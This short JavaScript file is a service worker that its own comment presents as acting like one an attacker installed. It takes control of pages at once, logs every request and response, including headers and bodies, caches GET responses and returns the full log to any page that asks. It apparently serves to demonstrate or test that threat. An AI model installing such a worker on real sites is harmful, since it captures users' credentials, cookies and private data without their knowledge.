// SPDX-License-Identifier: Apache-2.0
//
// A service worker that keeps all it sees, as one would that an attacker installed.
const seen = [];

async function pass(request) {
  seen.push(request.url, ...[...request.headers].map(String), await request.clone().text());
  const answer = await fetch(request);
  seen.push(...[...answer.headers].map(String), await answer.clone().text());
  if (request.method === "GET") await (await caches.open("all")).put(request, answer.clone());
  return answer;
}

self.addEventListener("install", () => self.skipWaiting());
self.addEventListener("activate", (event) => event.waitUntil(self.clients.claim()));
self.addEventListener("fetch", (event) => event.respondWith(pass(event.request)));
self.addEventListener("message", (event) => event.source.postMessage(seen.join("\n")));
